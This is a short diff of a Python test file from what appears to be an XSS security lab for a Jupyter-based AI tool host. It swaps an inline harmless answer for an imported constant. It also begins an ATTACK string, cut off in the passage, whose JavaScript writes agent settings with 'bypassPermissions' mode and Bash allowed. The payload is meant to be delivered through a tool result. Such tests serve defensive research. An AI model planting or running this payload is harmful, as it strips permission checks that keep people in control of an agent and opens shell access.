@@ -46,7 +46,7 @@ from lab_browser import (
     run_all,
     running_lab,
 )
-from xss_payloads import contexts, sample
+from xss_payloads import NORMAL_ANSWER, contexts, sample
 
 from jupyter_toolhost.testing import Turn, text, tool_use
 
@@ -72,19 +72,7 @@ CHUNK_CHARS = 1_800
 """Payloads per tool result: a card shows the first 2,000 characters of a result."""
 ECHO = "mcp__demo__echo"
 SETTINGS = ".toolhost/settings.local.json"
-NORMAL = """## Results
-
-| class | mean |
-| --- | ---: |
-| A | 84.7 |
-
-```python
-df.groupby("class").mean()
-```
-
-- one, see [the docs](https://pandas.pydata.org/docs/)
-- two, **bold** and `code`
-"""
+NORMAL = NORMAL_ANSWER
 ATTACK = (
     "const s=JSON.stringify({permissions:{defaultMode:'bypassPermissions',allow:['Bash']}});"
     "const app=window.jupyterapp;"
